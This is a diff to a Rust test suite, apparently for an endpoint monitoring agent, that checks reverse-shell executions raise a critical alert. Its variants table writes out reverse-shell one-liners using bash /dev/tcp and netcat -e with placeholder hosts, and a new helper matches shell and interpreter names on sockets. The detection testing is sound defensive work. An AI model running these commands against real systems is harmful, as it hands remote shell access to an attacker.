@@ -72,10 +72,36 @@ fn matches(d: &Deployment, agent: &AgentHandle, rule: &str) -> u64 {
         .sum()
 }
 
+/// Stored exec summaries of `agent` whose standard streams part (" [stdin=socket ...]") names
+/// `peer`.
+fn shells_on(d: &Deployment, agent: &AgentHandle, peer: &str) -> Vec<String> {
+    summaries(d, agent, peer)
+        .into_iter()
+        .filter(|s| {
+            s.rsplit_once(" [")
+                .is_some_and(|(_, stdio)| stdio.contains(peer))
+        })
+        .filter(|s| {
+            // "exec EXE ARGV...": the process on the socket is a shell or an interpreter.
+            let exe = s.split(' ').nth(1).unwrap_or_default();
+            ["/sh", "/bash", "/dash", "/python", "/perl"]
+                .iter()
+                .any(|name| exe.ends_with(name) || exe.contains(&format!("{name}3")))
+        })
+        .collect()
+}
+
 /// Stored exec summaries of `agent` containing `text`.
 fn summaries(d: &Deployment, agent: &AgentHandle, text: &str) -> Vec<String> {
     let out = d.ctl(&[
-        "events", "query", "--agent", &agent.id, "--kind", "process", "--contains", text,
+        "events",
+        "query",
+        "--agent",
+        &agent.id,
+        "--kind",
+        "process",
+        "--contains",
+        text,
         "--json",
     ]);
     out.lines()
@@ -104,8 +130,16 @@ fn have(tool: &str) -> bool {
 /// The variants: (name, the tool it needs, the shell command run on the host; PORT and HOST
 /// are replaced).
 const VARIANTS: [(&str, &str, &str); 7] = [
-    ("dev_tcp", "bash", "bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'"),
-    ("nc_e", "nc.traditional", "nc.traditional -e /bin/sh HOST PORT"),
+    (
+        "dev_tcp",
+        "bash",
+        "bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'",
+    ),
+    (
+        "nc_e",
+        "nc.traditional",
+        "nc.traditional -e /bin/sh HOST PORT",
+    ),
     (
         "mkfifo",
         "nc.traditional",
@@ -153,18 +187,30 @@ fn reverse_shells_raise_the_critical_behaviour_alert_and_a_plain_pipe_does_not()
     assert!(out.status.success(), "{out:?}");
     let stored = poll(Duration::from_secs(30), || {
         let out = d.ctl(&[
-            "events", "query", "--agent", &agent.id, "--contains", &marker, "--json",
+            "events",
+            "query",
+            "--agent",
+            &agent.id,
+            "--contains",
+            &marker,
+            "--json",
         ]);
-        out.lines().map(event_line).find_map(|r| match r.event?.body? {
-            event::Body::Process(p) if p.argv.contains(&marker) => Some(p),
-            _ => None,
-        })
+        out.lines()
+            .map(event_line)
+            .find_map(|r| match r.event?.body? {
+                event::Body::Process(p) if p.argv.contains(&marker) => Some(p),
+                _ => None,
+            })
     })
     .expect("the benign shell's exec is stored");
     let kind = |s: &Option<cordon_proto::Stdio>| s.as_ref().map(|s| s.kind);
     assert_eq!(kind(&stored.stdout), Some(Kind::Pipe as i32), "{stored:?}");
     assert!(stored.pipe_peer.is_none() && stored.parent_socket.is_none());
-    assert_eq!(matches(&d, &agent, &rule), 0, "the plain pipe raised the rule");
+    assert_eq!(
+        matches(&d, &agent, &rule),
+        0,
+        "the plain pipe raised the rule"
+    );
 
     for (i, (name, tool, command)) in VARIANTS.into_iter().enumerate() {
         if !have(tool) {
@@ -172,7 +218,10 @@ fn reverse_shells_raise_the_critical_behaviour_alert_and_a_plain_pipe_does_not()
                 !cordon_skips::in_ci(),
                 "{tool} is missing (scripts/test.sh installs it)"
             );
-            cordon_skips::skip(&format!("reverse shell variant {name}"), &format!("{tool} is missing"));
+            cordon_skips::skip(
+                &format!("reverse shell variant {name}"),
+                &format!("{tool} is missing"),
+            );
             continue;
         }
         let port = 4400 + i as u16;
@@ -189,9 +238,10 @@ fn reverse_shells_raise_the_critical_behaviour_alert_and_a_plain_pipe_does_not()
             .stderr(Stdio::null())
             .spawn()
             .unwrap();
+        let child_pid = child.id();
         let peer_addr = format!("{PEER_V4}:{port}");
         let seen = poll(Duration::from_secs(30), || {
-            let shells = summaries(&d, &agent, &peer_addr);
+            let shells = shells_on(&d, &agent, &peer_addr);
             (matches(&d, &agent, &rule) > before && !shells.is_empty()).then_some(shells)
         });
         let connected = catcher.connected();
@@ -201,9 +251,9 @@ fn reverse_shells_raise_the_critical_behaviour_alert_and_a_plain_pipe_does_not()
             panic!(
                 "{name}: no critical alert with {peer_addr} in the event (connected: {connected}); \
                  stored: {:?}",
-                summaries(&d, &agent, &port.to_string())
+                summaries(&d, &agent, &format!("ppid {child_pid}")),
             )
         });
-        println!("{name}: {shells:?}");
+        println!("{name}: {}", shells[0]);
     }
 }
